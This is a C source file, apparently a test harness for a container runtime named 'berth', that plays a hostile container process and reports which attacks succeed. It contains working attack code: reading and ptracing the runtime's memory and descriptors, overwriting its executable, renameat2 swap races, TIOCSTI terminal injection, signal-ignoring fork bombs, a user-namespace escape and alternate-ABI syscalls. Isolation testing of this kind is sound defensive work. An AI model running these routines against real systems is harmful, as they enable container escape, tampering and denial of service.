/*
 * attack: what a hostile process of a container tries. Static, for every root file system. What succeeds is printed as "got WHAT".
 *
 *   attack watch              until the file /stop is there: looks for processes called "berth" and attacks each: their descriptors,
 *                             directories, memory, and by ptrace. "saw berth" when there was one, "tried berth" when all was tried
 *   attack hold               the same with those that are found first, once; they are stopped (SIGSTOP) before
 *   attack overwrite FILE     holds FILE, and tries to write to it in every way there is, for half a second
 *   attack swap A B [N]       exchanges A and B again and again (N times, or for ever)
 *   attack tty TEXT           types TEXT into the terminal on descriptors 0 to 2, and into that of its session
 *   attack fds                every open descriptor but 0 to 2, with what it is
 *   attack environment        "has NAME=VALUE" of every variable
 *   attack key NAME           looks for a key of type "user" in its keyrings
 *   attack comets N           N processes that for ever fork and leave the rest to their child: none is twice the same
 *   attack bomb N             the same, ignoring every signal that can be ignored
 *   attack flee FILE OVER     "ready"; and once somebody comes into its group, or the file /tmp/go is there, it is root of a user namespace
 *                             where FILE is mounted over OVER: "gone"
 *   attack caps               the capability sets of this process as the kernel has them
 *   attack mkdir ABI PATH     mkdir as native, i386 or x32 programs call it; "errno N" when it is refused
 *   attack socket direct|multiplexed    a socket as i386 programs make it: by socket, or by socketcall
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static void say(const char *what, const char *detail)
{
	char line[512];
	int n = snprintf(line, sizeof line, "%s%s%s\n", what, *detail ? " " : "", detail);

	if (write(1, line, (size_t)n) < 0)
		_exit(1);
}

/* --- a process of the runtime -------------------------------------------------------------------------------------------- */

static bool opens(pid_t pid, const char *name, int flags)
{
	char path[300];

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);

	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* These are opened by anybody, and read only by who may. */
static bool reads(pid_t pid, const char *name)
{
	char path[64], byte;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, &byte, 1);

	if (fd >= 0)
		close(fd);
	return n > 0;
}

static bool takes_descriptor(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd = -1;

	for (int number = 0; pidfd >= 0 && fd < 0 && number < 32; number++)
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
	if (fd >= 0)
		close(fd);
	if (pidfd >= 0)
		close(pidfd);
	return fd >= 0;
}

/* The address is none; who may not look at all is told EPERM. */
static bool reaches_memory(pid_t pid)
{
	char byte;
	struct iovec local = { &byte, 1 }, remote = { (void *)16, 1 };

	return process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0 && errno == EFAULT;
}

static bool traces(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return false;
	/* Only who is stopped can be let go. */
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return true;
}

/* What its descriptors are, each once. */
static void look_at_descriptors(pid_t pid)
{
	static char seen[64][256];
	static size_t count;
	char path[40], target[256];

	for (int fd = 0; fd < 64; fd++) {
		size_t i = 0;

		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		ssize_t n = readlink(path, target, sizeof target - 1);

		if (n < 0)
			continue;
		target[n] = 0;
		while (i < count && strcmp(seen[i], target) != 0)
			i++;
		if (i < count || count == 64)
			continue;
		strcpy(seen[count++], target);
		say("sees", target);
	}
}

/* "CapPrm: 0123…" */
static void look_at_capabilities(pid_t pid)
{
	char path[40], line[256];

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	FILE *status = fopen(path, "re");

	while (status && fgets(line, sizeof line, status)) {
		line[strcspn(line, "\n")] = 0;
		if (strncmp(line, "CapPrm", 6) == 0)
			say("sees", line);
	}
	if (status)
		fclose(status);
}

static void strike(pid_t pid)
{
	look_at_capabilities(pid);
	static const char *const links[] = { "root", "cwd", "exe", "ns/mnt", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8" };

	look_at_descriptors(pid);
	for (size_t i = 0; i < sizeof links / sizeof *links; i++)
		if (opens(pid, links[i], O_RDONLY))
			say("got", links[i]);
	if (opens(pid, "mem", O_RDWR))
		say("got", "mem");
	if (reads(pid, "environ"))
		say("got", "environ");
	if (reads(pid, "maps"))
		say("got", "maps");
	if (takes_descriptor(pid))
		say("got", "a descriptor by pidfd_getfd");
	if (reaches_memory(pid))
		say("got", "its memory by process_vm_readv");
	if (traces(pid))
		say("got", "it by ptrace");
}

static bool is_runtime(pid_t pid)
{
	char path[40], name[20];

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, name, sizeof name);

	if (fd >= 0)
		close(fd);
	return n == 6 && memcmp(name, "berth\n", 6) == 0;
}

static int watch(bool stop)
{
	bool saw = false;

	while (access("/stop", F_OK) < 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			pid_t pid = atoi(entry->d_name);

			if (pid <= 0 || !is_runtime(pid))
				continue;
			if (stop)
				kill(pid, SIGSTOP);
			if (!saw)
				say("saw berth", "");
			strike(pid);
			if (!saw)
				say("tried berth", "");
			saw = true;
			if (stop)
				kill(pid, SIGCONT);
		}
		if (proc)
			closedir(proc);
	}
	return 0;
}

/* --- its program --------------------------------------------------------------------------------------------------------- */

static int overwrite(const char *path)
{
	static const int flags[] = { O_RDWR, O_WRONLY, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
	char held[40];
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return printf("cannot open %s: %s\n", path, strerror(errno)), 1;
	say("holding", path);
	snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
	/* As long as the file is executed it cannot be written; the attacker waits until it is not. */
	for (int i = 0; i < 500; i++) {
		for (size_t j = 0; j < sizeof flags / sizeof *flags; j++) {
			int open_fd = open(held, flags[j] | O_CLOEXEC);

			if (open_fd < 0)
				continue;
			if (write(open_fd, "#!/pwned\n", 9) == 9)
				return say("got", "the program"), 0;
			close(open_fd);
		}
		void *map = MAP_FAILED;
		int reader = open(held, O_RDONLY | O_CLOEXEC);

		if (reader >= 0)
			map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, reader, 0);
		if (map != MAP_FAILED)
			return say("got", "the program's pages"), 0;
		if (reader >= 0)
			close(reader);
		if (truncate(held, 0) == 0)
			return say("got", "the program cut off"), 0;
		usleep(1000);
	}
	return 0;
}

/* --- the rest ------------------------------------------------------------------------------------------------------------ */

static int swap(const char *a, const char *b, long count)
{
	for (long i = 0; count <= 0 || i < count; i++)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT)
			return perror("renameat2"), 1;
	return 0;
}

static int type_into_terminal(const char *text)
{
	int own = open("/dev/tty", O_RDWR | O_CLOEXEC), last = own < 0 ? 2 : own;

	for (int fd = 0; fd <= last; fd++) {
		if (ioctl(fd, TIOCSTI, text) < 0) {
			printf("descriptor %d: %s\n", fd, strerror(errno));
			continue;
		}
		for (const char *c = text + 1; *c; c++)
			ioctl(fd, TIOCSTI, c);
		return say("got", "the terminal's input"), 0;
	}
	return 0;
}

static int list_descriptors(void)
{
	for (int fd = 3; fd < 4096; fd++) {
		char path[40], target[256];

		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, target, sizeof target - 1);

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		target[n < 0 ? 0 : n] = 0;
		say("got", *target ? target : "a descriptor");
	}
	say("looked", "");
	return 0;
}

/* The C library's fork(3) blocks every signal meanwhile: one that is sent to all finds it so, and its child is born without. */
static long fork_open_to_signals(void)
{
	return syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
}

static int comets(int count, bool ignore)
{
	for (int sig = 1; ignore && sig <= 64; sig++)
		signal(sig, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	say("flying", "");
	while (--count > 0 && fork_open_to_signals() != 0)
		;
	/* Nobody's group or session is signalled with others. */
	setsid();
	for (;;)
		if (fork_open_to_signals() > 0)
			_exit(0);
}

/* --- another user namespace --------------------------------------------------------------------------------------------------- */

/* All is made there before, so that one call leads to it. Returns a pidfd of who is there. */
static int prepare_refuge(const char *file, const char *over)
{
	int made[2];
	char byte;

	if (pipe(made) < 0)
		return -1;
	pid_t pid = fork();

	if (pid == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 || mount(file, over, NULL, MS_BIND, NULL) < 0 || write(made[1], "", 1) < 0)
			_exit(1);
		for (;;)
			pause();
	}
	close(made[1]);
	return read(made[0], &byte, 1) == 1 ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
}

static int flee(const char *file, const char *over)
{
	int refuge = prepare_refuge(file, over), group = open("/sys/fs/cgroup/cgroup.procs", O_RDONLY);
	char text[64];
	ssize_t n = pread(group, text, sizeof text, 0);

	if (refuge < 0 || n < 0)
		return 1;
	say("ready", "");
	while (pread(group, text, sizeof text, 0) == n && access("/tmp/go", F_OK) < 0)
		;
	if (setns(refuge, CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return 1;
	say("gone", "");
	for (;;)
		pause();
}

static int print_capabilities(void)
{
	char line[256];
	FILE *status = fopen("/proc/self/status", "r");

	while (status && fgets(line, sizeof line, status))
		if (strncmp(line, "Cap", 3) == 0)
			fputs(line, stdout);
	return 0;
}

/* --- calls of other ABIs --------------------------------------------------------------------------------------------------- */

#ifdef __x86_64__
static long call_i386(long number, long a, long b, long c)
{
	int r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"((int)number), "b"(a), "c"(b), "d"(c) : "r8", "r9", "r10", "r11", "memory");
	return r;
}
#else
static long call_i386(long number, long a, long b, long c)
{
	(void)number, (void)a, (void)b, (void)c;
	return -ENOSYS;
}
#endif

static int report_call(long r, const char *what)
{
	char number[24];

	snprintf(number, sizeof number, "%ld", -r);
	say(r < 0 ? "errno" : "got", r < 0 ? number : what);
	return 0;
}

#ifndef MAP_32BIT
#define MAP_32BIT 0 /* nobody makes the other calls there */
#endif

/* Where 32-bit programs can point to. */
static void *low_memory(const void *data, size_t size)
{
	void *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	return low == MAP_FAILED || size > 4096 ? NULL : memcpy(low, data, size);
}

static int make_directory(const char *abi, const char *path)
{
	const char *low = low_memory(path, strlen(path) + 1);
	long r;

	if (!strcmp(abi, "i386"))
		return report_call(call_i386(39, (long)low, 0755, 0), path);
	r = syscall(SYS_mkdirat == 258 && !strcmp(abi, "x32") ? 0x40000000L + 258 : SYS_mkdirat, AT_FDCWD, path, 0755);
	return report_call(r < 0 ? -errno : r, path);
}

static int make_socket(const char *how)
{
	const unsigned arguments[3] = { 1, 1, 0 }; /* AF_UNIX, SOCK_STREAM */
	void *low = low_memory(arguments, sizeof arguments);

	return report_call(!strcmp(how, "direct") ? call_i386(359, 1, 1, 0) : call_i386(102, 1, (long)low, 0), "a socket");
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "watch"))
		return watch(false);
	if (!strcmp(what, "hold"))
		return watch(true);
	if (!strcmp(what, "overwrite") && argc > 2)
		return overwrite(argv[2]);
	if (!strcmp(what, "swap") && argc > 3)
		return swap(argv[2], argv[3], argc > 4 ? atol(argv[4]) : 0);
	if (!strcmp(what, "tty") && argc > 2)
		return type_into_terminal(argv[2]);
	if (!strcmp(what, "fds"))
		return list_descriptors();
	if (!strcmp(what, "environment")) {
		for (char **variable = environ; *variable; variable++)
			say("has", *variable);
		return 0;
	}
	if (!strcmp(what, "key") && argc > 2) {
		say(syscall(SYS_request_key, "user", argv[2], NULL, 0) < 0 ? "no" : "got", argv[2]);
		return 0;
	}
	if (!strcmp(what, "comets") && argc > 2)
		return comets(atoi(argv[2]), false);
	if (!strcmp(what, "bomb") && argc > 2)
		return comets(atoi(argv[2]), true);
	if (!strcmp(what, "mkdir") && argc > 3)
		return make_directory(argv[2], argv[3]);
	if (!strcmp(what, "socket") && argc > 2)
		return make_socket(argv[2]);
	if (!strcmp(what, "flee") && argc > 3)
		return flee(argv[2], argv[3]);
	if (!strcmp(what, "caps"))
		return print_capabilities();
	fputs("attack: see the top of attack.c\n", stderr);
	return 2;
}
